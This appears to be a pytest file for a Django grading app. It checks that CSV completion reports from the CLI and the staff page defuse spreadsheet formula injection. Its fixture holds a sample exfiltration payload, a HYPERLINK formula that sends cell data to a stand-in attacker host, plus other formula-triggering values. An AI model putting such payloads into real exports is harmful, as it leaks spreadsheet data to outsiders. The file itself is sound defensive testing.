"""The completion report's CSV (from `hocvuso report` and the staff page) opens as data in a spreadsheet.

A unit name is typed by whoever enrols learners (an LMS profile field, a grade report): a name such as
`=HYPERLINK(...)` once came out as a live formula from both exports.
"""

from __future__ import annotations

import csv
import io

import pytest

from graders import cli
from graders.pipeline.intake import ProgressEvent, record_progress

from .mini_course import COURSE_ID

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://attacker.invalid/?d="&A2,"Xem chứng chỉ")'


@pytest.fixture
def hostile_unit(mini_course, learner_info):
    record_progress([ProgressEvent(learner_info(f"u{n}", f"sub-{n}", unit=unit), COURSE_ID, "s1_mo_khoa",
                                   earned=1, possible=1, completed=True)
                     for n, unit in enumerate([PAYLOAD, "@SUM(A1:A9)", "-2+3", "Xã Yên Định"])])


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_defused(text: str) -> None:
    cells = _cells(text)
    assert "'" + PAYLOAD in cells and "'@SUM(A1:A9)" in cells and "'-2+3" in cells and "Xã Yên Định" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
    assert "1.0" in cells or "1" in cells  # figures stay figures


def test_cli_report_defuses_formulas(hostile_unit, capsys):
    assert cli.main(["report"]) == 0
    _assert_defused(capsys.readouterr().out)


def test_cli_report_to_a_file_defuses_formulas(hostile_unit, tmp_path):
    target = tmp_path / "report.csv"
    assert cli.main(["report", "-o", str(target)]) == 0
    _assert_defused(target.read_text(encoding="utf-8"))


def test_staff_page_csv_defuses_formulas(hostile_unit, client, django_user_model):
    from django.contrib.auth.models import Group

    from graders.access import INSTRUCTOR, course_role_group

    teacher = django_user_model.objects.create_user("giao_vien", password="x")
    teacher.groups.add(Group.objects.create(name=course_role_group(INSTRUCTOR, COURSE_ID)))
    client.force_login(teacher)
    response = client.get("/staff/reports/completions", {"format": "csv"})
    assert response.status_code == 200
    _assert_defused(response.content.decode("utf-8-sig"))


def test_the_unit_filter_ignores_accents_and_case(hostile_unit, capsys):
    assert cli.main(["report", "--unit", "xa YEN dinh"]) == 0
    cells = _cells(capsys.readouterr().out)
    assert "Xã Yên Định" in cells and "'@SUM(A1:A9)" not in cells
    assert cli.main(["report", "--unit", "khong co"]) == 0
    assert len(capsys.readouterr().out.strip().splitlines()) == 1  # the header only
